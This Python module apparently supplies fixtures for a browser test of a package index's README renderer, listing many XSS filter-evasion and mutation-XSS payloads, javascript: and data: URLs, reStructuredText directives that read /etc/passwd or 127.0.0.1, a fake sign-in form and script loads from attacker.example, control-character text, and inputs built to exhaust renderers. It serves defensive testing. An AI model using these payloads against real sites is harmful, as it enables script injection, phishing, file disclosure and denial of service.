"""Hostile descriptions and other metadata fields, generated from published forms of attack.

A page must not execute :data:`SCRIPT`. The browser test loads the pages and looks for its effect.
The forms follow OWASP's list "XSS Filter Evasion" and the classes of mutation XSS by Heiderich et
al. (2013): https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

SCRIPT = "window.executed=1"
"""Script of every attack."""
MARKDOWN, COMMONMARK = "text/markdown", "text/markdown; variant=CommonMark"
RST, PLAIN = "text/x-rst", "text/plain"


@dataclass(frozen=True, slots=True)
class HostileReadme:
    name: str
    text: str
    content_type: str


_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart"),
    *("onpointerenter", "onbeforetoggle", "OnErRoR", "onwheel", "onscrollend"),
)
_TAGS = {
    "img": "<img src=x {}>",
    "slash": "<img/src=x/{}>",
    "details": "<details open {}>x</details>",
    "heading": "<h1 {}>x</h1>",
    "link": '<a href="#x" {} autofocus tabindex=1>x</a>',
}
HTML = {
    "script": f"<script>{SCRIPT}</script>",
    "script in upper case": f"<SCRIPT>{SCRIPT}</SCRIPT>",
    "nested script": f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "unclosed script": f"<script>{SCRIPT}",
    "script with a source": "<script src=//attacker.example/x.js></script>",
    "script with a space": f"<script >{SCRIPT}</script >",
    "module": f"<script type=module>{SCRIPT}</script>",
    "null in a tag": f"<scr\0ipt>{SCRIPT}</scr\0ipt>",
    "style": "<style>*{background:url(//attacker.example)}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "unclosed style": "<style>body{display:none}",
    "style sheet": "<link rel=stylesheet href=//attacker.example/x.css>",
    "iframe": "<iframe src=javascript:window.parent.executed=1></iframe>",
    "iframe with a document": f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>',
    "object": "<object data=data:text/html,x></object>",
    "embed": "<embed src=javascript:window.executed=1>",
    "frameset": "<frameset onload=window.executed=1><frame src=x></frameset>",
    "base": "<base href=//attacker.example/>",
    "refresh": "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "form": "<form action=//attacker.example><input name=token><button>Sign in</button></form>",
    "form action": "<button form=search formaction=javascript:window.executed=1>x</button>",
    "autofocus": "<input autofocus onfocus=window.executed=1>",
    "text area": f"<textarea></textarea><script>{SCRIPT}</script>",
    "video": "<video><source onerror=window.executed=1></video>",
    "audio": "<audio src=x onerror=window.executed=1></audio>",
    "picture": "<picture><source srcset=//attacker.example/x><img src=x></picture>",
    "marquee": "<marquee onstart=window.executed=1>x</marquee>",
    "dialog": "<dialog open onclose=window.executed=1>x</dialog>",
    "custom element": "<x-y onclick=window.executed=1 tabindex=1 autofocus>x</x-y>",
    "slot": "<template shadowrootmode=open><slot onslotchange=window.executed=1></slot></template>",
    "popover": "<p popover id=x>x</p><button popovertarget=x>x</button>",
    "svg script": f"<svg><script>{SCRIPT}</script></svg>",
    "svg load": "<svg onload=window.executed=1>",
    "svg animation": "<svg><animate onbegin=window.executed=1 attributeName=x dur=1s></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script/></svg>#x'/></svg>",
    "svg foreign object": f"<svg><foreignObject><script>{SCRIPT}</script></foreignObject></svg>",
    "svg link": "<svg><a xlink:href=javascript:window.executed=1><text y=9>x</text></a></svg>",
    "mathml link": "<math><maction xlink:href=javascript:window.executed=1>x</maction></math>",
    "mathml style": "<math><mtext><table><mglyph><style><img src=x onerror=window.executed=1>",
    "mutation by svg": '<svg></p><style><a id="</style><img src=1 onerror=window.executed=1>">',
    "mutation by noscript": '<noscript><p title="</noscript>'
    '<img src=x onerror=window.executed=1>">',
    "mutation by form": "<form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=window.executed=1>",
    "mutation by title": '<title><a title="</title><img src=x onerror=window.executed=1>">',
    "mutation by comment": "<!--><img src=x onerror=window.executed=1>-->",
    "mutation by declaration": "<![CDATA[<img src=x onerror=window.executed=1>]]>",
    "mutation by instruction": "<?xml <img src=x onerror=window.executed=1>?>",
    "mutation by quotes": '<img alt="`><script>window.executed=1</script>">',
    "mutation by backquotes": "<img src=`x`onerror=window.executed=1>",
    "mutation by select": '<select><template><style><!--</style><a rel="--></style></template>'
    "</select><img src=x onerror=window.executed=1>",
    "mutation by plain text": "<plaintext><img src=x onerror=window.executed=1>",
    "mutation by annotation": "<math><annotation-xml encoding=text/html><style><img src=x "
    "onerror=window.executed=1></style>",
    "mutation by table": "<table><tr><td><svg><desc><table><tr><td></svg><img src=x "
    "onerror=window.executed=1>",
    "unclosed tags": "<div><table><tr><td><a href=x><b><i><code><pre><blockquote>",
    "closing tags": "</div></section></main></body></html><h1>page</h1>",
    "unclosed attribute": '<a href="x',
    "unclosed comment": "<!-- the rest of the page",
    "id of the page": "<p id=search>x</p><a id=main name=location>x</a><img name=body src=x>",
    "class of the page": "<div class='notice warning k'>x</div>",
    "target": "<a href=https://attacker.example target=_top ping=//attacker.example>x</a>",
    "download": "<a href=https://attacker.example download=x.exe>x</a>",
    "bidirectional entities": "<b>user&#x202e;gnp.exe&#8294;</b>",
    "control entities": "a&#27;[31mred&#0;&#8;b",
    **{
        f"{event} of {tag}": form.format(f"{event}={SCRIPT}")
        for event, (tag, form) in product(_HANDLERS, _TAGS.items())
    },
}
"""Attacks in HTML by name."""

URLS = {
    "javascript": "javascript:window.executed=1",
    "upper case": "JaVaScRiPt:window.executed=1",
    "leading space": " javascript:window.executed=1",
    "tab": "java\tscript:window.executed=1",
    "line feed": "java\nscript:window.executed=1",
    "tab entity": "java&#9;script:window.executed=1",
    "line feed entity": "java&NewLine;script:window.executed=1",
    "colon entity": "javascript&colon;window.executed=1",
    "decimal entities": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;executed=1",
    "hexadecimal entities": "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;executed=1",
    "control character": "\x01javascript:window.executed=1",
    "comment": "javascript://attacker.example/%0awindow.executed=1",
    "percent": "javascript%3Awindow.executed=1",
    "vbscript": "vbscript:msgbox(1)",
    "data in HTML": "data:text/html,<script>window.executed=1</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==",
    "data in SVG": "data:image/svg+xml,<svg onload=window.executed=1>",
    "blob": "blob:https://attacker.example/x",
    "file": "file:///etc/passwd",
    "other host": "//attacker.example/x",
    "other path": "/projects/acme/../../x",
    "view source": "view-source:javascript:window.executed=1",
    "feed": "feed:javascript:window.executed=1",
    "filesystem": "filesystem:https://attacker.example/x",
}
"""Hostile URLs by name."""
_LINKS = {
    "HTML link": ('<a href="{}">x</a>', MARKDOWN),
    "HTML image": ('<img src="{}">', MARKDOWN),
    "Markdown link": ("[x](<{}>)", MARKDOWN),
    "Markdown reference": ("[x]\n\n[x]: {}", COMMONMARK),
    "Markdown image": ("![x]({})", MARKDOWN),
    "reStructuredText link": ("`x <{}>`_", RST),
    "reStructuredText image": (".. image:: {}\n   :target: {}", RST),
}
_DIRECTIVES = {
    "raw": f".. raw:: html\n\n   <script>{SCRIPT}</script>",
    "raw file": ".. raw:: html\n   :file: /etc/passwd",
    "raw URL": ".. raw:: html\n   :url: http://127.0.0.1/",
    "include": ".. include:: /etc/passwd",
    "literal include": ".. include:: /etc/passwd\n   :literal:",
    "table of a file": ".. csv-table:: x\n   :file: /etc/passwd",
    "table of a URL": ".. csv-table:: x\n   :url: http://127.0.0.1/",
    "role": ".. role:: x(raw)\n   :format: html\n\n:x:`<script>window.executed=1</script>`",
    "class": ".. class:: notice\n\nx",
    "container": ".. container:: notice warning\n\n   x",
    "meta": ".. meta::\n   :http-equiv=refresh: 0;url=//attacker.example",
    "substitution": ".. |x| image:: javascript:window.executed=1\n\n|x|",
    "math": ".. math:: <script>window.executed=1</script>",
    "code": ".. code:: html\n\n   <script>window.executed=1</script>",
    "target": ".. _search:\n\nx\n=\n\nsearch_",
    "anonymous": "__ javascript:window.executed=1\n\n`x`__",
    "settings": ".. default-role:: raw-html\n\n`<script>window.executed=1</script>`",
    "figure": ".. figure:: x.svg\n   :figclass: notice\n   :target: javascript:window.executed=1",
}
_TEXTS = {
    "right-to-left override": "safe\u202egnp.exe\u202c and \u2066isolate\u2069",
    "embedding": "\u202arest of the page \u202b is reversed",
    "ANSI colours": "\x1b[31mred\x1b[0m \x9b2J cleared \x1b]8;;https://attacker.example\x07link",
    "null": "a\0b\x08c\x7f",
    "tags": "a\U000e0041\U000e0042b",
    "line separator": "a\u2028window.executed=1\u2029b",
    "byte order mark": "\ufeffx\ufffe",
    "many combining characters": "x" + "\u0301" * 2000,
    "braces of templates": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "end of a script": "</script><script>window.executed=1</script>",
    "end of a comment": "--><script>window.executed=1</script>",
}


def list_hostile_readmes() -> list[HostileReadme]:
    """Return hostile descriptions; each is rendered within a second."""
    return [*_list_html(), *_list_links(), *_list_directives(), *_list_texts()]


def list_slow_readmes() -> list[HostileReadme]:
    """Return descriptions that renderers need much time or memory for."""
    return [
        HostileReadme("10,000 quotes", ">" * 10_000 + " x", MARKDOWN),
        HostileReadme("10,000 lists", "- " * 10_000 + "x", MARKDOWN),
        HostileReadme("10,000 elements", "<div>" * 10_000 + "x", MARKDOWN),
        HostileReadme("10,000 brackets", "[" * 10_000 + "x", MARKDOWN),
        HostileReadme("10,000 links", "[a](" * 10_000, COMMONMARK),
        HostileReadme("10,000 asterisks", "*a " * 10_000, MARKDOWN),
        HostileReadme("10,000 back quotes", "".join("`" * n + " " for n in range(140)), MARKDOWN),
        HostileReadme(
            "huge table", "|a" * 500 + "\n" + "|-" * 500 + "\n" + "|x\n" * 3000, MARKDOWN
        ),
        HostileReadme("5 MB of Markdown", "*x* [y](z) " * 460_000, MARKDOWN),
        HostileReadme("5 MB on a line", "x" * 5_000_000, PLAIN),
        HostileReadme("nested lists", _nest("- x", 400), RST),
        HostileReadme("nested quotes", _nest("x", 400), RST),
        HostileReadme("long line of stars", "*x " * 100_000, RST),
        HostileReadme("many substitutions", "|a|" * 20_000, RST),
        HostileReadme("wide grid", "+" + "-+" * 5000 + "\n", RST),
        HostileReadme("exponential substitutions", _double_substitutions(24), RST),
    ]


def list_hostile_values() -> list[str]:
    """Return hostile values of other metadata fields."""
    nested = ("(" * 5_000, ":" * 9_000, "<" * 5_000, "[" * 5_000)
    long = ("x" * 100_000, *nested)
    return [*HTML.values(), *URLS.values(), *_TEXTS.values(), *long, '"><', "'", "&amp;"]


def _list_html() -> Iterator[HostileReadme]:
    for name, html in HTML.items():
        yield HostileReadme(f"{name} in Markdown", html, MARKDOWN)
        yield HostileReadme(f"{name} in CommonMark", f"x {html} y\n\n{html}", COMMONMARK)
        yield HostileReadme(f"{name} in a list", f"- > [{html}](x) `{html}`\n- {html}", MARKDOWN)
        yield HostileReadme(f"{name} in plain text", html, PLAIN)


def _list_links() -> Iterator[HostileReadme]:
    for (name, url), (kind, (form, content_type)) in product(URLS.items(), _LINKS.items()):
        yield HostileReadme(f"{name} in a {kind}", form.replace("{}", url), content_type)


def _list_directives() -> Iterator[HostileReadme]:
    for name, text in _DIRECTIVES.items():
        yield HostileReadme(f"{name} in reStructuredText", text, RST)


def _list_texts() -> Iterator[HostileReadme]:
    kinds = (MARKDOWN, RST, PLAIN, "", "text/html", "TEXT/MARKDOWN; charset=x", "\x1b;;", "x" * 500)
    for (name, text), kind in product(_TEXTS.items(), kinds):
        yield HostileReadme(f"{name} as {kind[:30]!r}", text, kind)


def _nest(text: str, depth: int) -> str:
    return "\n\n".join(f"{'  ' * level}{text}" for level in range(depth))


def _double_substitutions(depth: int) -> str:
    lines = [f".. |a{n}| replace:: |a{n + 1}| |a{n + 1}|" for n in range(depth)]
    return "\n".join([*lines, f".. |a{depth}| replace:: x", "", "|a0|"])
